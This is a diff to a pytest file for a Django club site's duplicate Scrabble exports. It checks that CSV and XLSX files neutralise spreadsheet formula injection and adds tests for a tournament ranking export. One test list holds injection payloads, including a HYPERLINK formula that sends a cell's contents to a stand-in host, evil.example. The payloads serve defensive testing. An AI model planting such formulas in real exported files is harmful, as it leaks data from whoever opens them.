@@ -3,6 +3,7 @@
 formula, while the numbers (a gap of -13) stay numbers."""
 
 import csv
+import datetime
 import io
 
 import pytest
@@ -11,13 +12,14 @@ from openpyxl import load_workbook
 from clubsite.models import ApiToken
 from duplicate import exports, services
 from duplicate.models import Session
+from duplicate.services import PlayerLine
 
 from .conftest import make_session
 
 pytestmark = pytest.mark.django_db
 
 # The players' rows start below the title (the session's name and date, an empty line), the header and the tops.
-FIRST = exports.TITLE_ROWS + 2
+FIRST = 5
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+1+2", "-3+4", "@SUM(1+1)", "\t=1+2", "\r=1+2"]
 
 
@@ -106,7 +108,8 @@ def test_the_tournament_files(client, hostile_session, alice, lyon):
     rows = list(csv.reader(io.StringIO(client.get(f"{url}csv").content.decode("utf-8-sig"), newline=""), delimiter=";"))
     # (the tab and the carriage return names are one player there: a tournament matches names stripped)
     names = {neutralised(name) for name in HOSTILE[:5]}
-    assert {row[1] for row in rows[exports.TITLE_ROWS + 1 :]} == names | {"Anne"}
+    # (the title: the name, the date, each session, an empty line; then the header and the tops)
+    assert {row[1] for row in rows[7:]} == names | {"Anne"}
     sheet = load_workbook(io.BytesIO(client.get(f"{url}xlsx").content)).active
     cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
     assert all(cell.data_type == "s" for cell in cells)
@@ -127,3 +130,81 @@ def test_a_control_character_xml_cannot_hold_does_not_hide_a_formula(alice, lyon
     session.players.update(name="\x01=1+2")
     sheet = load_workbook(io.BytesIO(exports.build(session, "xlsx"))).active
     assert (sheet["C6"].data_type, sheet["C6"].value) == ("s", "=1+2")
+
+
+@pytest.fixture
+def cup(alice, lyon):
+    """Two evenings ranked together. Anne (licence and series on Tuesday, her club on Thursday, where she is
+    typed "ANNE" with another licence) tops move 1 both times; Bruno plays on Tuesday only, Chloé on Thursday
+    only, where she tops 4G AVIONS (18)."""
+    tuesday = make_session(
+        alice, lyon, players=[PlayerLine(1, "Anne", "123456", "", "A"), PlayerLine(2, "Bruno", "", "Paris", "")]
+    )
+    thursday = make_session(
+        alice,
+        lyon,
+        name="Jeudi soir",
+        date=datetime.date(2026, 11, 26),
+        players=[PlayerLine(1, "ANNE", "999", "Lyon", ""), PlayerLine(2, "Chloé", "C77", "Grenoble", "B")],
+    )
+    for session, draws, scores in (
+        (tuesday, [("VAGUEST", "H4 VAGUE")], [(26, 20)]),
+        (thursday, [("VAGUEST", "H4 VAGUE"), ("ST+AIONX", "4G AVIONS")], [(26, 26), (10, 18)]),
+    ):
+        first, second = session.players.order_by("table")
+        for (draw, top), (one, two) in zip(draws, scores, strict=True):
+            move = services.round_add(session=session, draw_text=draw, top_text=top)
+            services.result_set(round_=move, player=first, score=one)
+            services.result_set(round_=move, player=second, score=two)
+    return services.tournament_create(name="Coupe d'hiver", creator=alice, sessions=[thursday, tuesday])
+
+
+def test_the_tournaments_csv_file_has_its_sessions_tops_and_people(client, alice, cup):
+    client.force_login(alice)
+    content = client.get(f"/duplicate/tournois/{cup.pk}/?export=csv").content.decode("utf-8-sig")
+    assert list(csv.reader(io.StringIO(content, newline=""), delimiter=";")) == [
+        ["Nom", "Coupe d'hiver"],
+        ["Date", "24/11/2026"],
+        ["Séance 1", "Mardi soir", "24/11/2026"],
+        ["Séance 2", "Jeudi soir", "26/11/2026"],
+        [],
+        [
+            "Place",
+            "Nom",
+            "Licence",
+            "Club",
+            "Série",
+            "Total",
+            "Écart",
+            "% du top",
+            "24/11 Mardi soir",
+            "26/11 Jeudi soir",
+        ],
+        ["Tops", "", "", "", "", "70", "", "", "26", "44"],
+        ["1", "Anne", "123456", "Lyon", "A", "62", "-8", "88,6", "26", "36"],
+        ["2", "Chloé", "C77", "Grenoble", "B", "44", "-26", "62,9", "0", "44"],
+        ["3", "Bruno", "", "Paris", "", "20", "-50", "28,6", "20", "0"],
+    ]
+
+
+def test_the_tournaments_xlsx_file_keeps_numbers_and_freezes_its_header(client, alice, cup):
+    client.force_login(alice)
+    sheet = load_workbook(io.BytesIO(client.get(f"/duplicate/tournois/{cup.pk}/?export=xlsx").content)).active
+    assert [sheet.cell(row=3, column=c).value for c in (1, 2, 3)] == [
+        "Séance 1",
+        "Mardi soir",
+        datetime.datetime(2026, 11, 24),
+    ]
+    assert sheet["C4"].value == datetime.datetime(2026, 11, 26) and sheet["C4"].number_format == "DD/MM/YYYY"
+    assert [cell.value for cell in sheet[7]] == ["Tops", None, None, None, None, 70, None, None, 26, 44]
+    assert [cell.value for cell in sheet[8]] == [1, "Anne", "123456", "Lyon", "A", 62, -8, 88.6, 26, 36]
+    assert [cell.data_type for cell in sheet[8]] == ["n", "s", "s", "s", "s", "n", "n", "n", "n", "n"]
+    assert sheet.freeze_panes == "C8"  # the title, the header and the tops; the place and the name
+    assert sheet["F6"].font.bold
+    assert sheet.column_dimensions["I"].width == len("24/11 Mardi soir") + 2
+
+
+def test_the_tournaments_page_gives_the_tops(client, alice, cup):
+    client.force_login(alice)
+    page = client.get(f"/duplicate/tournois/{cup.pk}/").content.decode()
+    assert '<td><strong>70</strong></td><td colspan="2"></td><td>26</td><td>44</td>' in page
